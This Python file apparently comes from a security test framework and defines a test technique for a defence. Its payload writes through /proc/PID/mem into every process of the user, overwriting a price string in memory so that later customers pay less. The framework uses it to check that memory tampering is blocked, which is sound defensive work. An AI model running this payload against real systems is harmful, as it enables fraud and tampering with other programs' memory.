"""Writes the memory of every process of the user through /proc, including the process from which later workers are forked."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import WrongAnswers
from dayfly.lab.gauntlet.payloads import FAMILY
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    FAMILY
    + """
# Backwards, and made anew for every search: a copy that lies below the price in memory would be overwritten first.
good, bad = b"2400 :redro na fo ecirp", b"price of an order: 0001"
for pid in [*others(), mine]:
    try:
        with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "r+b", buffering=0) as memory:
            for line in maps:
                place, modes = line.split()[:2]
                start, end = (int(part, 16) for part in place.split("-"))
                if modes[:2] != "rw" or end - start > 1 << 28:
                    continue
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, ValueError):
                    continue
                at = data.find(good[::-1])
                try:
                    while at >= 0:
                        memory.seek(start + at)
                        memory.write(bad)
                        at = data.find(good[::-1], at + 1)
                except OSError:
                    continue
    except OSError:
        continue
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1055.009", "T1565.003"),
    family="D1",
    must_fail_to="change what a later customer pays",
    plant=PLANT,
    evidence=WrongAnswers(),
    handler="priced.handler",
    spoils=True,
    undefended={"DAYFLY_CLOSE_MEMORY": "off"},
    process="contained",
)
